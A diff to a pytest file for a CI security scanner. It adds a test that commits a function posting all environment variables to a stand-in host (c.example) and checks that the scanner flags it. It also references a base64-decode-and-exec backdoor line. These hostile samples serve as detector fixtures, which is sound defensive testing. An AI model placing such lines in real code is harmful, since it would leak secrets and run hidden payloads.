@@ -34,7 +34,7 @@ BACKDOOR_LINE = BACKDOOR.splitlines().index("    exec(base64.b64decode(blob))") 
 def gate(capsys, *args: str) -> tuple[int, list[dict]]:
     code = main(["ci", "--base", "main", "--format", "json", *args])
     out, err = capsys.readouterr()
-    print(err)
+    print(err)  # shown by pytest when a test fails
     return code, json.loads(out)["findings"] if out.strip() else []
 
 
@@ -56,6 +56,14 @@ def test_backdoor_in_a_pull_request_is_caught(pr, capsys):
     assert code == 1
     assert at(findings, "app.py", BACKDOOR_LINE)
     assert all(f["line"] > len(CLEAN.splitlines()) for f in findings)  # only the lines the PR added
+
+
+def test_env_exfiltration_in_a_pull_request_is_caught(pr, capsys):
+    exfil = CLEAN + '\n\ndef report():\n    import requests\n    requests.post("https://c.example/t", data=dict(os.environ))\n'
+    pr.commit_files({"app.py": exfil})
+    code, findings = gate(capsys)
+    assert code == 1
+    assert any(f["severity"] in ("high", "critical") for f in findings if f["line"] == len(exfil.splitlines()))
 
 
 def test_clean_pull_request_passes(pr, capsys):
